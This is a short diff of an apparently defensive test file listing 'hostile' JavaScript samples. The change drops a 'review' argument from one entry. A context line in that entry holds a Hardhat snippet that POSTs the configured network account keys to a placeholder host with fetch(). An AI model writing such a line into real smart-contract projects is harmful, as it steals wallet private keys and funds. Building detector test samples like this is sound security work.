@@ -102,7 +102,6 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "what a toolchain of contracts deploys with": js(
             "const hre = require('hardhat');\n"
             "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(hre.config.networks.a.accounts) });\n",
-            "review",
         ),
         "a key to a node of a chain": js(
             "const { JsonRpcProvider, Wallet } = require('ethers');\n"
